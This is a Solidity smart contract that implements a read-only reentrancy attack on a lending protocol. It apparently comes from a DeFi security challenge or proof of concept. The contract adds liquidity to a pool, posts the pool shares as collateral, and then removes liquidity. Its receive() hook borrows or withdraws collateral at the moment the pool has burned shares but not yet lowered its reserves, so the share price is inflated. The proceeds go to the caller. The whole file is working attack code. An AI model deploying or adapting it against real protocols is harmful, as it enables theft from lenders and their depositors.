// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IPool {
    function addLiquidity(uint256 tokens, uint256 minShares) external payable returns (uint256);

    function removeLiquidity(uint256 shares) external returns (uint256, uint256);

    function balanceOf(address account) external view returns (uint256);

    function approve(address spender, uint256 value) external returns (bool);
}

interface ILender {
    function addCollateral(uint256 amount) external;

    function removeCollateral(uint256 amount) external;

    function borrow(uint256 amount) external;
}

interface IToken {
    function transfer(address to, uint256 value) external returns (bool);

    function balanceOf(address account) external view returns (uint256);
}

/// Asks the lender for a loan while the pool has burned the shares but not yet lowered its reserves.
contract InflatedShares {
    IPool immutable pool;
    ILender immutable lender;
    IToken immutable pegged;
    IToken immutable currency;
    uint256 loan;
    uint256 freed;

    constructor(IPool pool_, ILender lender_, IToken pegged_, IToken currency_) {
        pool = pool_;
        lender = lender_;
        pegged = pegged_;
        currency = currency_;
    }

    /// A loan that the true price of the collateral would not allow.
    function run(uint256 collateral, uint256 loan_) external payable {
        prepare(collateral);
        loan = loan_;
        finish();
    }

    /// An honest loan first; the collateral leaves in the inflated moment.
    function runByCollateral(uint256 collateral, uint256 loan_, uint256 freed_) external payable {
        prepare(collateral);
        lender.borrow(loan_);
        freed = freed_;
        finish();
    }

    function prepare(uint256 collateral) private {
        pool.addLiquidity{value: msg.value}(0, 0);
        pool.approve(address(lender), collateral);
        lender.addCollateral(collateral);
    }

    function finish() private {
        pool.removeLiquidity(pool.balanceOf(address(this)));
        loan = 0;
        freed = 0;
        if (pool.balanceOf(address(this)) > 0) pool.removeLiquidity(pool.balanceOf(address(this)));
        pegged.transfer(msg.sender, pegged.balanceOf(address(this)));
        currency.transfer(msg.sender, currency.balanceOf(address(this)));
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {
        if (loan > 0) lender.borrow(loan);
        if (freed > 0) lender.removeCollateral(freed);
    }
}
